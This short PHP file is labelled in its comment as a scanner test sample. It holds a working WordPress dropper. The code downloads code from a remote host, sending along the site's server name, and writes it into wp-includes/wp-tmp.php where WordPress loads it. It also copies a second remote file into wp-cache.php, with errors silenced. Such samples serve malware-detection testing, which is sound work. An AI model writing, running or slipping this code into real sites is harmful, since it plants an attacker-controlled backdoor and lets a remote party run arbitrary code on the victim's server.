<?php
// spamgear test sample: a dropper that installs code fetched from a remote
// server where WordPress loads it, and a second copy with copy().
$code = @file_get_contents('http://updates.example.net/code.php?i=' . $_SERVER['SERVER_NAME']);
if ($code) {
    @file_put_contents(dirname(__FILE__) . '/wp-includes/wp-tmp.php', $code);
}
@copy('http://updates.example.net/c.txt', 'wp-cache.php');
